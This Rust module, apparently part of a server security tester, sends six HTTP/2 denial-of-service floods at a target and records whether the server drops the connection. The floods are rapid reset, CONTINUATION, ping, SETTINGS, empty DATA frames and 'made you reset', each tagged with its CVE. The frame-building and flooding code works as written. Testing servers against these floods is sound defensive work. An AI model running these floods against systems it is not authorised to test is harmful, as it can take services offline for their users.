//! Floods over HTTP/2: cheap for whoever sends them, dear for whoever reads. The server must end the
//! connection.

use std::io::{Read as _, Write as _};
use std::time::{Duration, Instant};

use crate::Finding;
use crate::target::{Target, is_pause};

/// A flood: what opens it, and what is sent again and again, by the number of the round.
struct Flood {
    attack: &'static str,
    begin: fn(&Target) -> Vec<u8>,
    round: fn(&Target, u32) -> Vec<u8>,
}

const FLOODS: &[Flood] = &[
    Flood {
        // CVE-2023-44487.
        attack: "rapid reset",
        begin: |_| Vec::new(),
        round: |target, round| {
            let stream = 2 * round + 1;
            let head = head_of(target, 0x82, "/");
            let begun = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head);
            [begun, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
        },
    },
    Flood {
        // CVE-2024-27316 and others.
        attack: "endless continuation",
        begin: |target| frame(HEADERS, END_STREAM, 1, &head_of(target, 0x82, "/")),
        round: |_, _| frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"),
    },
    Flood {
        // CVE-2019-9512.
        attack: "pings",
        begin: |_| Vec::new(),
        round: |_, round| frame(PING, 0, 0, &u64::from(round).to_be_bytes()),
    },
    Flood {
        // CVE-2019-9515.
        attack: "settings",
        begin: |_| Vec::new(),
        round: |_, _| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
    },
    Flood {
        // CVE-2019-9518.
        attack: "empty frames",
        begin: |target| frame(HEADERS, END_HEADERS, 1, &head_of(target, 0x83, "/predict")),
        round: |_, _| frame(DATA, 0, 1, &[]),
    },
    Flood {
        // CVE-2025-8671: the client makes the server reset.
        attack: "made you reset",
        begin: |_| Vec::new(),
        round: |target, round| {
            let stream = 2 * round + 1;
            let head = head_of(target, 0x83, "/predict");
            let begun = frame(HEADERS, END_HEADERS, stream, &head);
            [begun, frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
        },
    },
];

/// Sends each of them.
pub(crate) fn run(target: &Target) -> Vec<Finding> {
    FLOODS.iter().map(|flood| send(target, flood)).collect()
}

fn send(target: &Target, flood: &Flood) -> Finding {
    let finding = |held, saw: String| Finding::new("flood", flood.attack, held, saw);
    let Ok(mut stream) = target.tls(b"h2") else { return finding(true, "no HTTP/2".to_owned()) };
    let begin = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &(flood.begin)(target)].concat();
    if stream.write_all(&begin).is_err() {
        return finding(true, "closed at once".to_owned());
    }
    // What comes is taken, so that the server never waits for us.
    let nonblocking = stream.sock.set_nonblocking(true);
    let (started, mut buffer) = (Instant::now(), [0; 16 * 1024]);
    let mut round = 0;
    while nonblocking.is_ok() && started.elapsed() < PATIENCE {
        if round < ROUND_COUNT && !stream.conn.wants_write() {
            let batch: Vec<u8> = (0..BATCH)
                .flat_map(|_| {
                    round += 1;
                    (flood.round)(target, round)
                })
                .collect();
            _ = stream.conn.writer().write_all(&batch);
        }
        let written = stream.conn.complete_io(&mut stream.sock);
        let over = match stream.read(&mut buffer) {
            Ok(count) => count == 0,
            Err(error) => !is_pause(&error),
        };
        if over || written.is_err_and(|error| !is_pause(&error)) {
            return finding(true, format!("closed after {round} frames"));
        }
        std::thread::yield_now();
    }
    finding(false, format!("open after {round} frames and {} s", PATIENCE.as_secs()))
}

/// A frame of HTTP/2 (RFC 9113, 4.1).
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = content.len().to_be_bytes();
    let head = [&length[length.len() - 3..], &[kind, flags], &stream.to_be_bytes()[..]];
    [&head.concat()[..], content].concat()
}

/// The head of a request (RFC 7541): `method` is its number in the static table.
pub(crate) fn head_of(target: &Target, method: u8, path: &str) -> Vec<u8> {
    let mut head = vec![method, 0x87];
    for (name, value) in [(0x04, path), (0x01, target.host.as_str())] {
        // A literal with a name of the static table, not indexed; shorter than 127 bytes.
        head.extend([name, value.len().min(126) as u8]);
        head.extend(value.bytes().take(126));
    }
    head
}

/// How a client begins (RFC 9113, 3.4).
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

pub(crate) const SETTINGS: u8 = 4;
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A thousand times what any client sends.
const ROUND_COUNT: u32 = 100_000;

/// What a flood gets to do its harm in.
const PATIENCE: Duration = Duration::from_secs(15);

/// Frames at once.
const BATCH: u32 = 100;
